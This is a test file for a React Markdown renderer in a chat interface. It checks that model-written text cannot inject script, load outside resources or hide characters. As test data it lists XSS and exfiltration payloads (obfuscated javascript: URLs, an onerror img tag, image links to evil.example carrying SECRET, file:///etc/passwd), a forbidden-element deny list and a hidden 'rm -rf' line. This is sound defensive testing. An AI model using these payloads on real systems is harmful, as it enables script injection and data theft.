import { act, cleanup, render, screen } from '@testing-library/react'
import { renderToString } from 'react-dom/server'
import { afterEach, expect, test } from 'vitest'
import '../styles.css'
import { part, parts } from '../play-chat.test.helper.tsx'
import { prefixes } from './every-construct.test.helper.ts'
import { Markdown } from './markdown.tsx'

afterEach(cleanup)

const FORBIDDEN_ELEMENTS =
  'script, style, iframe, frame, object, embed, applet, form, base, meta, link, svg, math, video, audio, source, track, picture, template, textarea, select, noscript, input:not([type=checkbox])'

const KNOWN_ATTRIBUTES = new Set(
  'alt aria-hidden aria-label checked class decoding dir disabled href id loading referrerpolicy rel role scope src start tabindex target title translate type'.split(
    ' ',
  ),
)

/** The header of a code block is the kit's own, but for the language in it. */
function isByModel(element: Element): boolean {
  return element.closest('[data-part=code-button]') === null
}

/** All that must not be in the page, whatever a model writes. */
function violations(root: Element): string[] {
  const found = [...root.querySelectorAll(FORBIDDEN_ELEMENTS)]
    .filter(isByModel)
    .map(({ outerHTML }) => outerHTML)
  for (const element of [...root.querySelectorAll('*')].filter(isByModel)) {
    for (const { name, value } of element.attributes) {
      const isFine =
        name.startsWith('data-') ||
        (name === 'href' && isHarmlessLink(element as HTMLAnchorElement)) ||
        (name === 'src' && new URL(value, document.baseURI).origin === location.origin) ||
        (name === 'class' && /^language-[\w+#.-]{1,40}$/.test(value)) ||
        (name === 'id' && /^.{3,12}-(?:footnote|reference)-\d+$/.test(value)) ||
        (KNOWN_ATTRIBUTES.has(name) && !['href', 'src', 'class', 'id'].includes(name))
      if (!isFine) found.push(`${element.localName} ${name}=${value}`)
    }
  }
  return found
}

test('what looks for violations finds them', () => {
  for (const html of [
    '<img data-x src="https://evil.example/a.png">',
    '<a href="javascript:alert(1)" rel="noopener noreferrer nofollow ugc" referrerpolicy="no-referrer">x</a>',
    '<a href="https://evil.example" target="_blank" referrerpolicy="no-referrer">x</a>',
    '<p onclick="x()">x</p>',
    '<p style="color: red">x</p>',
    '<p class="fixed">x</p>',
    '<p id="location">x</p>',
    '<svg></svg>',
  ]) {
    // Parsed and not put into the page: nothing in it is loaded.
    const { body } = new DOMParser().parseFromString(html, 'text/html')
    expect([html, violations(body).length]).toEqual([html, 1])
  }
})

function isHarmlessLink(link: HTMLAnchorElement): boolean {
  const { protocol, username, password, rel, origin, target } = link
  if (link.matches('[data-part=footnote-reference], [data-part=back-link]')) return origin === location.origin
  const isRemote = origin !== location.origin && protocol !== 'mailto:'
  return (
    ['http:', 'https:', 'mailto:'].includes(protocol) &&
    username + password === '' &&
    rel === 'noopener noreferrer nofollow ugc' &&
    link.referrerPolicy === 'no-referrer' &&
    target === (isRemote ? '_blank' : '')
  )
}

const constructs: ReadonlyArray<(address: string) => string> = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `[x][r]\n\n[r]: ${address}\n\nend`,
  (address) => `[r]\n\n> [r]: <${address}> "title"\n\nend`,
  (address) => `<${address}>`,
  (address) => `${address} and more`,
  (address) => `![x](${address})`,
  (address) => `![x][r]\n\n[r]: ${address}\n\nend`,
  (address) => `[![x](${address})](${address})`,
  (address) => `| a |\n|---|\n| ![x](${address}) [x](${address}) |`,
  (address) => `a[^1]\n\n[^1]: ![x](${address}) [x](${address})`,
  (address) => `- **_[x](${address})_ ![x](${address})**`,
  (address) => `<img src="${address}" onerror="alert(1)">`,
  (address) => `<a href="${address}" style="x" class="fixed">x</a>`,
  (address) => `\`\`\`${address}\n${address}\n\`\`\``,
]

const addresses = [
  'https://evil.example/p.png?q=SECRET',
  'http://evil.example',
  '//evil.example/p.png',
  '/\\evil.example/p.png',
  'https://good.example@evil.example/',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&Tab;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:x',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.example/1',
  'file:///etc/passwd',
  'https://xn--exmple-4nf.com',
  '/own.png',
  'mailto:a@evil.example?body=SECRET',
]

test('no address in any construct makes more of the page than a checked link, nor a request to anyone', () => {
  for (const address of addresses) {
    for (const construct of constructs) {
      const source = construct(address)
      render(<Markdown text={source} />)
      expect([source, violations(part('markdown'))]).toEqual([source, []])
      cleanup()
    }
  }
  expect(requestsAway()).toEqual([])
})

test('nor does it at any prefix', () => {
  const { rerender } = render(<Markdown text="" />)
  for (const address of addresses.slice(0, 7)) {
    for (const construct of constructs) {
      for (const text of prefixes(construct(address))) {
        rerender(<Markdown text={text} streaming />)
        expect([text, violations(part('markdown'))]).toEqual([text, []])
      }
    }
  }
  expect(requestsAway()).toEqual([])
})

function requestsAway(): string[] {
  const preloads = [...document.querySelectorAll<HTMLLinkElement>('link[rel=preload]')].map(
    ({ href }) => href,
  )
  const requests = performance.getEntriesByType('resource').map(({ name }) => name)
  return [...preloads, ...requests].filter((address) => address.includes('evil.example'))
}

test('a link is not one before its address is whole', () => {
  const { rerender } = render(<Markdown text="" streaming />)
  const whole = 'https://good.example.evil.example/path'
  for (const source of [
    `[x](${whole})`,
    `[x](<${whole}>)`,
    `<${whole}>`,
    `[x](${whole} "title")`,
    `[x][r]\n\n[r]: ${whole}\n\n`,
  ]) {
    const seen = new Set<string>()
    for (const text of prefixes(source)) {
      rerender(<Markdown text={text} streaming />)
      for (const { href } of document.querySelectorAll('a')) if (href) seen.add(href)
    }
    expect([source, [...seen]]).toEqual([source, [whole]])
  }
})

test('a link keeps its label’s node when its address is whole', () => {
  const { rerender } = render(<Markdown text="[label](https://a.exam" streaming />)
  const label = document.querySelector('a bdi')?.firstChild
  expect(label?.textContent).toBe('label')
  rerender(<Markdown text="[label](https://a.example)" streaming />)
  expect(document.querySelector('a[href] bdi')?.firstChild).toBe(label)
})

test('a link that is refused is its label', () => {
  render(<Markdown text="[*click*](javascript:alert(1))" />)
  expect(document.querySelector('p')?.innerHTML).toBe('<em>click</em>')
})

test('an app may refuse links', () => {
  render(
    <Markdown
      text="[a](https://a.example) [b](https://b.example) [c](/c)"
      allowLink={({ host }) => host !== 'b.example'}
    />,
  )
  expect([...document.querySelectorAll('a')].map(({ textContent }) => textContent)).toEqual(['a', 'c'])
})

test('where a link leads is seen when its label says something else, and told in any case', () => {
  render(
    <Markdown text="[google.com](https://evil.example) [here](https://a.example 'Title') [**goo**gle.com](https://evil.example) [x](https://exаmple.com)" />,
  )
  const [first, second, third, fourth] = document.querySelectorAll('a')
  expect(first?.textContent).toBe('google.com (evil.example)')
  expect(second?.textContent).toBe('here')
  expect(second?.title).toBe('Title (a.example)')
  expect(third?.textContent).toBe('google.com (evil.example)')
  expect(fourth?.textContent).toBe('x (xn--exmple-4nf.com)')
})

test('an image from elsewhere loads when its button is pressed, and has the focus then', () => {
  render(<Markdown text="![A chart](https://images.example/a.png)" />)
  expect(document.querySelector('img')).toBeNull()
  const button = screen.getByRole('button', { name: 'A chart Show image from images.example' })
  button.focus()
  act(() => button.click())
  const image = document.querySelector('img')
  expect([image?.getAttribute('src'), image?.alt, image?.loading, image?.referrerPolicy]).toEqual([
    'https://images.example/a.png',
    'A chart',
    'lazy',
    'no-referrer',
  ])
  expect(document.activeElement?.contains(image)).toBe(true)
})

test('an image that was shown stays while text goes on, and another address asks again', () => {
  const { rerender } = render(<Markdown text="![a](https://images.example/a.png) b" streaming />)
  act(() => screen.getByRole('button').click())
  const image = document.querySelector('img')
  rerender(<Markdown text={'![a](https://images.example/a.png) b c\n\nd'} streaming />)
  expect(document.querySelector('img')).toBe(image)
  rerender(<Markdown text={'![a](https://images.example/b.png) b c\n\nd'} streaming />)
  expect(document.querySelector('img')).toBeNull()
})

test('images from the page’s own origin show, and others that the app allows', () => {
  const source = `![a](/a.png) ![b](${location.origin}/b.png) ![c](https://cdn.example/c.png)`
  const { rerender } = render(<Markdown text={source} />)
  const shown = (): string[] => [...document.querySelectorAll('img')].map(({ alt }) => alt)
  expect(shown()).toEqual(['a', 'b'])
  rerender(<Markdown text={source} allowImage={allowCdn} />)
  expect(shown()).toEqual(['c'])
})

function allowCdn({ host }: URL): boolean {
  return host === 'cdn.example'
}

test('a half-written image is its description, and cannot be pressed', () => {
  const { rerender } = render(<Markdown text="" streaming />)
  for (const text of prefixes('![alt](/own.png')) {
    rerender(<Markdown text={text} streaming />)
    expect([text, document.querySelectorAll('img, button').length]).toEqual([text, 0])
  }
})

test.each(['![alt]()', '![alt](<>)', '![alt](<> "title")'])(
  'an image without an address is its description: %s',
  (text) => {
    render(<Markdown text={text} allowImage={() => true} />)
    expect(document.querySelectorAll('img, button')).toHaveLength(0)
    expect(part('image').textContent).toBe('alt')
  },
)

test('in a link an image from elsewhere is its description, for a button could not be in it', () => {
  render(<Markdown text="[![build](https://ci.example/badge.svg)](https://ci.example)" />)
  expect(screen.getByRole('link', { name: 'build' })).toBeDefined()
  expect(screen.queryByRole('button')).toBeNull()
})

test('a server tells no browser to load an image ahead', () => {
  const html = renderToString(
    <Markdown text="![a](https://images.example/a.png) ![b](/b.png)" allowImage={() => true} />,
  )
  expect(html.match(/<img/g)).toHaveLength(2)
  expect(html).not.toContain('<link')
})

test('what nobody sees in code is named also where emphasis is too deep to be shown', () => {
  render(<Markdown text={`${'*_'.repeat(9)}\`a\u202Eb\`${'_*'.repeat(9)}`} />)
  expect(parts('invisible')).toHaveLength(1)
  expect(part('markdown').outerHTML).not.toContain('\u202E')
})

test('what nobody sees is named in code and in links, and is not in the page', () => {
  render(
    <Markdown
      text={
        '`a\u202Eb`\n\n```\nrm\u200B -rf \u001B[2J\n```\n\n[safe\u2066label\u{E0041}\u{E0042}](https://a.example "ti\u202Etle")'
      }
    />,
  )
  expect(parts('invisible').map(({ dataset }) => dataset['character'])).toEqual([
    'U+202E',
    'U+200B',
    'U+001B',
    'U+2066',
    'U+E0041 ×2',
  ])
  const markdown = part('markdown')
  for (const hidden of ['\u202E', '\u200B', '\u001B', '\u2066', '\u{E0041}']) {
    expect(markdown.outerHTML).not.toContain(hidden)
  }
  expect(markdown.querySelector('a')?.title).toBe('title (a.example)')
  expect(markdown.querySelector('pre')?.textContent).toBe('rm -rf [2J\n')
  const [mark] = parts('invisible')
  expect(mark?.getBoundingClientRect().width).toBeGreaterThan(20)
})

test('a label’s writing direction stays in it', () => {
  render(<Markdown text="See [مرحبا](https://a.example) and more." />)
  expect(document.querySelector('a > bdi')?.textContent).toBe('مرحبا')
})
